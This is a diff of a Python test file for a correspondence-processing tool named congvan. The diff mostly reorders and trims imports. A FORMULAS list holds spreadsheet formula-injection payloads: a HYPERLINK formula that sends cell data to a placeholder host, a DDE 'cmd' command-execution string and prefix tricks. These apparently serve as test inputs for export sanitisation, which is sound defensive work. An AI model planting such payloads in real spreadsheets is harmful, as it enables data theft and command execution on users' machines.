@@ -12,7 +12,6 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
-import json
 import subprocess
 import sys
 import time
@@ -20,17 +19,16 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from conftest import SEED_000, SEED_001
 from lxml import etree
 from typer.testing import CliRunner
 
 import congvan
-from congvan.models.records import (ActionItem, Deadline, DistributionEntry, DocumentNumber, PartialDate,
-                                    Recipient)
+from congvan.models.records import Deadline, DistributionEntry, DocumentNumber, PartialDate, Recipient
 from congvan.pipeline.cli import app
-from congvan.pipeline.exports import edxml, gitlab, handling_report as hr, jira, registers, source, tasks, todoist
+from congvan.pipeline.exports import edxml, gitlab, jira, registers, source, tasks, todoist
+from congvan.pipeline.exports import handling_report as hr
 from congvan.pipeline.exports.cells import file_stem, plot_text, sheet_text
-
-from conftest import SEED_000, SEED_001
 
 FORMULAS = ['=HYPERLINK("http://example.invalid/?s="&A1,"Xem")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)",
             "\tTAB=1", "\r=1+1"]
